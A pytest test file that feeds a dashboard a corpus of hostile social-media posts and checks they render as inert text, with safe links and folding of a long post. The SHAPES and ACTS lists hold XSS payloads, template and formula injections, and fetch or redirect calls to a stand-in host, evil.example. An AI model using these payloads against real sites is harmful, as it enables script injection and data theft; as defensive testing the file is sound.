from collections.abc import Callable
from typing import Any

import pytest
from support.mentions import bullish, mention, post
from support.processes import Running
from support.store import StoreHandle, ingest_into

from swarmnexus.v1.model_pb2 import Mention, Span

Open = Callable[..., Any]
ACTS = ["alert(1)", "top.location='//evil.example'", "document.title='owned'", "fetch('//evil.example')"]
SHAPES = [
    "<script>{}</script>",
    '"><script>{}</script>',
    "'><img src=x onerror={}>",
    "<svg/onload={}>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    '<iframe srcdoc="<script>{}</script>">',
    "<details open ontoggle={}>",
    '<a href="javascript:{}">press</a>',
    "javascript:{}",
    "</blockquote></article><script>{}</script>",
    "</mark><script>{}</script><mark>",
    "<!--><script>{}</script>-->",
    "<![CDATA[<script>{}</script>]]>",
    "{{{{ {} }}}}",
    "{{% {} %}}",
    "${{{}}}",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "%3Cscript%3E{}%3C/script%3E",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    '<math><mi//xlink:href="data:x,<script>{}</script>">',
    "<style>@import'//evil.example';</style>{}",
    "<base href=//evil.example/>{}",
    "<meta http-equiv=refresh content='0;url=//evil.example'>{}",
    "<form action=//evil.example><button>{}</button></form>",
    "<template><script>{}</script></template>",
    '<noscript><p title="</noscript><img src=x onerror={}>">',
    "\u202e<script>{}</script>\u2066",
    "\u200b<\u200bscript>{}</script>\ufeff",
    "data: {}\n\nevent: reset\ndata: x\n\nid: 99999999",
    "line\r\nbreak\u2028and\u2029more\x85{}",
    "\x1b[31m{}\x07\x7f",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334" * 20 + "{}",
    "👩‍👩‍👧‍👦🏳️‍🌈🇺🇳{}",
    '=HYPERLINK("//evil.example";{})',
]


def corpus() -> list[Mention]:
    """Every shape with every act: as a bare mention, as a parent, and with spans across the hostile words."""
    rows, number = [], 1
    for shape in SHAPES:
        for act in ACTS:
            text = shape.format(act)
            if number % 3 == 0:
                above = post(number + 100_000, text=text)
                row = mention(number, thread=[above], post_fields={"text": f"@SwarmNexus {text}"})
                row.calls.append(bullish(above, spans=[Span(post_id=above.id, start=1, end=9, of="ticker")]))
            else:
                row = mention(number, post_fields={"text": text})
                spans = [Span(post_id=row.post.id, start=0, end=5, of="stance")]
                row.calls.append(
                    bullish(row.post, spans=[*spans, Span(post_id=row.post.id, start=3, end=12, of="target")])
                )
            rows.append(row)
            number += 1
    return rows


@pytest.fixture(scope="module")
def hostile(store: StoreHandle) -> dict[str, Mention]:
    """The corpus, already stored, by id."""
    rows = corpus()
    assert [result.reason for result in ingest_into(store, rows) if result.reason] == []
    return {row.post.id: row for row in rows}


# What the HTML parser itself does to text, before any script: line ends become one kind.
def as_parsed(text: str) -> str:
    return text.replace("\r\n", "\n").replace("\r", "\n")


def shown(page: Any) -> dict[str, list[str]]:
    """The words on the page, by the mention's id."""
    found: dict[str, list[str]] = page.evaluate(
        "Object.fromEntries([...document.querySelectorAll('article.entry')].map(one => [one.id.slice(2),"
        " [...one.querySelectorAll('blockquote')].map(words => words.textContent)]))"
    )
    return found


def expected(row: Mention) -> list[str]:
    """The words a card must show, whatever their order."""
    return sorted(as_parsed(each.text) for each in (row.post, *row.thread))


def test_hostile_posts_are_shown_letter_by_letter_and_do_nothing(
    dashboard: Running, hostile: dict[str, Mention], visit: Open
) -> None:
    reader = visit(dashboard)
    page, seen = reader.to("/dashboard"), {}
    while True:
        seen.update(shown(page))
        if not page.locator("#older").count():
            break
        with page.expect_navigation():
            page.click("#older")
    assert seen.keys() == hostile.keys()
    for number, row in hostile.items():
        assert sorted(seen[number]) == expected(row)
    assert reader.wrong == []
    assert page.title() == "Feed, Swarm Nexus"


def test_hostile_posts_are_as_harmless_in_the_list_of_calls(
    dashboard: Running, hostile: dict[str, Mention], visit: Open
) -> None:
    reader = visit(dashboard)
    page, seen = reader.to("/calls"), dict[str, list[str]]()
    while True:
        seen.update(shown(page))
        if not page.locator("#older").count():
            break
        with page.expect_navigation():
            page.click("#older")
    called = {call.post_id: row for row in hostile.values() for call in row.calls}
    assert seen.keys() == called.keys()
    for post_id, row in called.items():
        texts = {each.id: each.text for each in (row.post, *row.thread)}
        assert as_parsed(texts[post_id]) in seen[post_id]
    assert reader.wrong == []
    assert page.title() == "Calls, Swarm Nexus"


def test_hostile_posts_arrive_live_as_harmless_as_they_are_listed(
    dashboard: Running, hostile: dict[str, Mention], store: StoreHandle, visit: Open
) -> None:
    reader = visit(dashboard)
    page = reader.to("/dashboard")
    reader.until_live()
    fresh = []
    for number, row in enumerate(hostile.values()):
        text = row.thread[0].text if row.thread else row.post.text
        fresh.append(mention(500_000 + number, post_fields={"text": text}))
    ingest_into(store, fresh)
    page.locator(f"#m-{fresh[-1].post.id}").wait_for()
    seen = shown(page)
    for row in fresh:
        assert seen[row.post.id] == expected(row)
    assert reader.wrong == []
    assert page.title() == "Feed, Swarm Nexus"


def test_the_longest_post_is_folded_and_whole(dashboard: Running, store: StoreHandle, visit: Open) -> None:
    text = "".join(f"{n:05d} " for n in range(4166)) + "end."
    long = mention(900_001, post_fields={"text": text})
    ingest_into(store, [long])
    reader = visit(dashboard, width=375)
    page = reader.to("/dashboard")
    card = page.locator(f"#m-{long.post.id}")
    folded = card.bounding_box()
    assert folded is not None
    assert folded["height"] < 1600
    card.locator("summary", has_text="All 25,000 characters").click()
    words = card.locator("blockquote").evaluate(
        "words => [...words.childNodes].map(n => n.nodeName === 'DETAILS'"
        " ? [...n.childNodes].filter(m => m.nodeName !== 'SUMMARY').map(m => m.textContent).join('')"
        " : n.textContent).join('')"
    )
    assert words == text
    assert reader.wrong == []


@pytest.mark.usefixtures("hostile")
def test_links_lead_to_the_post_on_the_web_and_nowhere_else(dashboard: Running, visit: Open) -> None:
    page = visit(dashboard).to("/dashboard")
    for link in page.locator("#feed a").all():
        target = link.get_attribute("href") or ""
        if not target.startswith(("/authors/", "/tickers/", "/mentions/")):
            assert target.startswith("https://x.com/")
            assert {"nofollow", "noopener", "ugc"} <= set((link.get_attribute("rel") or "").split())
